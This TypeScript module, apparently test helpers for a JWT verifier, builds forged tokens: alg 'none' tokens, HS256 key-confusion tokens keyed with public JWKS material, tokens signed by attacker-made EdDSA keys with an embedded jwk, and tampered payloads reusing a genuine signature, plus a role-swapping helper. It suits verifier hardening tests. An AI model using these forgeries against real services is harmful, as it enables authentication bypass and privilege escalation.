/** Token forgeries an attacker can make without the signing key: the alg=none, HS256 and foreign-key classics. */
import { createHmac, generateKeyPairSync, sign } from 'node:crypto';

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

export function decodeJwt(token: string): { header: Record<string, unknown>; payload: Record<string, unknown> } {
  const [header, payload] = token.split('.') as [string, string];
  return {
    header: JSON.parse(Buffer.from(header, 'base64url').toString('utf8')),
    payload: JSON.parse(Buffer.from(payload, 'base64url').toString('utf8')),
  };
}

/** Every value equal to `from` (e.g. the role `viewer`) replaced by `to`, claims otherwise kept. */
export function swapClaims(payload: Record<string, unknown>, from: string, to: string): Record<string, unknown> {
  return JSON.parse(JSON.stringify(payload).replaceAll(`"${from}"`, `"${to}"`));
}

export function unsigned(header: Record<string, unknown>, payload: Record<string, unknown>): string {
  return `${b64({ ...header, alg: 'none' })}.${b64(payload)}.`;
}

/** HS256 keyed with public material (the JWKS `x`): accepted only by a verifier that lets the token pick its alg. */
export function hs256(header: Record<string, unknown>, payload: Record<string, unknown>, secret: string): string {
  const input = `${b64({ ...header, alg: 'HS256' })}.${b64(payload)}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

/** A real EdDSA signature by a key the attacker made, optionally advertised in the header (`jwk`). */
export function foreignEdDsa(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  embedJwk: boolean,
): string {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const jwk = publicKey.export({ format: 'jwk' });
  const input = `${b64({ ...header, alg: 'EdDSA', ...(embedJwk ? { jwk } : {}) })}.${b64(payload)}`;
  return `${input}.${sign(null, Buffer.from(input), privateKey).toString('base64url')}`;
}

/** The genuine header and signature around a changed payload. */
export function resigned(token: string, payload: Record<string, unknown>): string {
  const [header, , signature] = token.split('.') as [string, string, string];
  return `${header}.${b64(payload)}.${signature}`;
}
